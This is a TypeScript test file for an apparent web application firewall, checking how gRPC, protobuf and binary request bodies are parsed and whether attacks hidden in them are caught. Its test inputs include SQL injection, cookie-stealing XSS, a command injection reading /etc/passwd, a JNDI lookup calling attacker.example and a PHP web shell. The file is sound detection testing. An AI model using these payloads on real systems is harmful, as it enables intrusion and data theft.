// gRPC and protobuf bodies (request/protobuf.ts) and binary bodies read through their text runs
// (request/text-runs.ts): string fields are targets named by field numbers, nested messages are
// walked, attacks in them are found; binary data (random or compressed bytes) is not misread.
import fc from "fast-check";
import { gzipSync } from "node:zlib";
import { beforeAll, describe, expect, it } from "vitest";
import { loadHarness, type Harness } from "../support/harness.js";
import { inspect, targetsOf, type Req } from "../support/engine.js";
import { message, grpcFrames, type Field } from "../support/protobuf.js";
import { rng } from "../support/variants/rng.js";

let h: Harness;
beforeAll(async () => {
  h = await loadHarness();
});

const post = (type: string, body: Uint8Array, path = "/shop.v1.Orders/Create"): Req => ({
  method: "POST", path, headers: [["host", "orders.shop.svc.cluster.local"], ["content-type", type], ["te", "trailers"]], body,
});
const grpc = (...fields: Field[]) => post("application/grpc", grpcFrames(message(fields)));
const names = (r: Req) => targetsOf(h, r).targets.filter((t) => t.name.startsWith("grpc:")).map((t) => `${t.name}=${t.value}`);
const ids = (r: Req) => inspect(h, r).matches.map((m) => m.id);

const order: Field[] = [
  [1, "ord-7f3a9c"], [2, 3], [3, { fixed64: 19.99 }],
  [4, [[1, "Ada Lovelace"], [2, "12 Crescent Rd"], [3, "London"], [4, 7]]],
  [5, [[1, "SKU-1091"], [2, 2]]], [5, [[1, "SKU-2208"], [2, 1]]],
  [6, "Please leave it at the door; ring twice."], [7, { fixed32: 0.5 }], [8, new Uint8Array([0, 1, 2, 250, 255, 7])],
];

describe("gRPC bodies", () => {
  it("names every string field by its field numbers, nested messages included", () => {
    expect(names(grpc(...order))).toEqual([
      "grpc:1=ord-7f3a9c", "grpc:4.1=Ada Lovelace", "grpc:4.2=12 Crescent Rd", "grpc:4.3=London",
      "grpc:5.1=SKU-1091", "grpc:5.1=SKU-2208", "grpc:6=Please leave it at the door; ring twice.",
    ]);
  });

  it.each([
    ["application/grpc"], ["application/grpc+proto"], ["application/grpc-web"], ["application/grpc-web+proto"], ["application/connect+proto"],
  ])("a benign order sent as %s passes, with no Content-Type finding", (type) => {
    const body = type.includes("connect") ? message(order) : grpcFrames(message(order));
    expect(ids(post(type, body))).toEqual([]);
  });

  it.each<[string, Field[], string, number]>([
    ["SQL injection in a string field", [[1, "ord-1' OR '1'='1' -- "]], "grpc:1", 2],
    ["XSS in a nested message", [[4, [[1, "<svg onload=alert(document.domain)>"]]]], "grpc:4.1", 3],
    ["a command in a repeated nested field", [[5, [[1, "SKU-1"]]], [5, [[1, "x; cat /etc/passwd"]]]], "grpc:5.1", 4],
    ["JNDI lookup three messages deep", [[9, [[2, [[3, "${jndi:ldap://attacker.example/a}"]]]]]], "grpc:9.2.3", 8],
  ])("finds %s", (_, fields, target, thousands) => {
    const v = inspect(h, grpc(...fields));
    expect(v.attack).toBe(true);
    // (a nested message that is all text is also read as one string: the rule may be credited to the field holding it)
    const inField = (t: string) => t === target || target.startsWith(t + ".");
    expect(v.matches.some((m) => inField(m.target) && Math.floor(m.id / 1000) === thousands), JSON.stringify(v.matches)).toBe(true);
  });

  it("reads every data frame and skips a gRPC-Web trailer frame", () => {
    const body = grpcFrames(message([[1, "first"]]), message([[1, "second"]]), { flag: 0x80, data: new TextEncoder().encode("grpc-status:0\r\n") });
    expect(names(post("application/grpc-web+proto", body))).toEqual(["grpc:1=first", "grpc:1=second"]);
  });

  it("reads a bare protobuf message (application/x-protobuf)", () => {
    expect(names(post("application/x-protobuf", message([[2, [[1, "hello"]]]]), "/api/v1/events"))).toEqual(["grpc:2.1=hello"]);
    expect(ids(post("application/x-protobuf", message([[1, "<script>alert(1)</script>"]]), "/api/v1/events"))).toContain(3001);
  });

  it("reads a bytes field that is no text and no message through its text runs", () => {
    const blob = new Uint8Array([1, 2, 3, ...new TextEncoder().encode("<?php system($_GET['c']); ?>"), 0xff, 4, 5]);
    expect(inspect(h, grpc([1, "doc"], [2, blob])).attack).toBe(true);
  });

  it("falls back to the text runs of a compressed or broken body", () => {
    const attack = new TextEncoder().encode("1 UNION SELECT password FROM users-- ");
    const compressed = grpcFrames({ flag: 1, data: new Uint8Array([0x1f, 0x8b, 8, 0, ...attack, 0, 3]) });
    expect(inspect(h, post("application/grpc", compressed)).attack).toBe(true);
    const cut = grpcFrames(message([[1, "' OR 1=1 UNION SELECT password FROM users -- "]])).slice(0, -3);
    expect(inspect(h, post("application/grpc", cut)).attack).toBe(true);
  });

  it("never fails on random bytes sent as gRPC, protobuf or octet-stream", () => {
    fc.assert(fc.property(fc.uint8Array({ maxLength: 600 }), fc.constantFrom("application/grpc", "application/x-protobuf", "application/octet-stream"), (bytes, type) => {
      expect(() => inspect(h, post(type, bytes))).not.toThrow();
    }), { numRuns: 300, seed: 11 });
  });
});

describe("binary bodies", () => {
  // Random bytes and gzip output (what a compressed upload or gRPC message looks like), drawn from
  // a fixed seed so the verdicts are the same on every run: read whole, one in seven 2-60 KB
  // bodies was blocked; through runs of 12 bytes or more, one in 400; of 16 or more, none of 6,000.
  it("random and compressed bodies of 100 B to 60 KB are blocked at most once in 200", () => {
    const r = rng(20261129);
    const bytesOf = (n: number) => Uint8Array.from({ length: n }, () => r(256));
    const note = () => Buffer.from(bytesOf(6)).toString("base64");
    let blocked = 0;
    const samples: string[] = [];
    for (let k = 0; k < 200; k++) {
      const size = [100, 2000, 8000, 30000, 60000][k % 5];
      const bytes = k % 2 ? bytesOf(size) : new Uint8Array(gzipSync(JSON.stringify(Array.from({ length: size / 40 }, (_, i) => ({ id: i, name: `user${(i * 7919 + k) % 1000}`, note: note() })))));
      const v = inspect(h, post(k % 3 ? "application/octet-stream" : "application/grpc", bytes, "/upload"));
      if (v.attack) {
        blocked++;
        samples.push(v.matches.map((m) => `${m.id} ${m.fragment}`).join(" | "));
      }
    }
    expect(blocked, samples.join("\n")).toBeLessThanOrEqual(1);
  });

  it("an attack in a binary body is found in its run of text, NULs (UTF-16 text) left out", () => {
    const utf16 = Buffer.from("<script>alert(document.cookie)</script>", "utf16le");
    const body = new Uint8Array([0x89, 0x50, 0x4e, 0x47, 1, 2, ...utf16, 3, 4]);
    expect(ids(post("application/octet-stream", body, "/upload"))).toContain(3001);
  });

  it.each([
    ["UTF-8 text", "Grüße aus Köln — 日本語のテキスト, ｆｕｌｌ－ｗｉｄｔｈ"],
    ["Latin-1 text", "Gr\xfc\xdfe aus K\xf6ln"],
  ])("%s is a text body, read whole", (_, text) => {
    const bytes = Buffer.from(text, text.includes("日") ? "utf8" : "latin1");
    const body = targetsOf(h, post("text/plain", new Uint8Array(bytes), "/notes")).targets.filter((t) => t.name === "body");
    expect(body.length).toBe(1);
  });

  it("a text body is read whole, as before", () => {
    const body = targetsOf(h, post("text/plain", new TextEncoder().encode("hello\tworld\r\nsecond line"), "/notes")).targets.filter((t) => t.name === "body");
    expect(body.map((t) => t.value)).toEqual(["hello\tworld\r\nsecond line"]);
  });
});
